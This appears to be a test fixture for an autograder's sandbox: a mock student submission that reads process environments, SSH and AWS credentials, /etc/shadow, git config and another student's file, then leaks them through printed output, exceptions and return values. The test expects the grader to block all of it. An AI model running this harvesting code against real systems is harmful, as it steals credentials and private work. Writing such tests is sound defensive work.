"""Attack (escaping, exfiltration): steal the grader's environment (CI tokens) and show it.

The student reads os.environ, /proc/self/environ, /proc/1/environ, /proc/<ppid>/environ
and the environ of every visible process, plus files holding secrets (the test's canary
folder, ~/.netrc, ~/.ssh, ~/.aws, /etc/shadow), and exfiltrates everything through every
channel back to the student: printed on stdout and stderr, in exception messages, and
in the returned values.

Expected: the worker starts with an empty environment and can read none of those files;
no secret appears anywhere in the text report or the JSON; every part 0.
"""

import glob
import os
import sys

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4000).replace(b"\0", b" ").decode(errors="replace")
    except OSError as exc:
        return f"<{exc.strerror}>"


def loot():
    found = {"os.environ": " ".join(f"{k}={v}" for k, v in os.environ.items())}
    pids = {"self", "1", str(os.getppid())} | {p for p in os.listdir("/proc") if p.isdigit()}
    for pid in sorted(pids):
        found[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ")
    files = glob.glob(os.path.join(HOOKS["canary"], "*")) + [
        os.path.expanduser("~/.netrc"), "/root/.netrc", "/root/.ssh/id_rsa", "/root/.aws/credentials",
        "/etc/shadow", os.path.join(HOOKS["repo"], ".git", "config"), os.path.join(HOOKS["submission_dir"],
                                                                                  "secret_other_student.py")]
    for path in files:
        found[path] = _read(path)
    return "\n".join(f"{k}: {v}" for k, v in found.items())


LOOT = loot()
print(LOOT)
print(LOOT, file=sys.stderr)


def forward(alpha, beta, x, y):
    raise RuntimeError(LOOT[:400])


def backward(alpha, beta, x, y):
    return LOOT, LOOT


def chain_rule(dy_dx, dz_dy):
    raise KeyError(LOOT[-400:])


def d_Ax_dx(A, x):
    return {"loot": LOOT}


def linear_regression(X, y):
    print(LOOT)
    return LOOT
